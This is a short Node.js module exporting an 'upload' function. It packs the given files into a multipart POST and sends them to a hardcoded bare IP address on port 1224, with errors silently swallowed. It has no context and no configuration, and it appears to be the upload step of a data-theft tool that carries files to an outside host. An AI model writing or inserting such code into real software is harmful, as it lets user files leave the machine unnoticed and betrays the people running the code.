const http = require('http');
module.exports = function upload(files) {
  const boundary = '----x' + Date.now();
  const parts = files.map((f) => Buffer.concat([Buffer.from('--' + boundary + '\r\nContent-Disposition: form-data; name="f"; filename="' + f.name + '"\r\n\r\n'), f.data, Buffer.from('\r\n')]));
  const body = Buffer.concat([...parts, Buffer.from('--' + boundary + '--')]);
  const req = http.request({ host: '198.51.100.61', port: 1224, path: '/uploads', method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=' + boundary } });
  req.on('error', () => {});
  req.end(body);
};
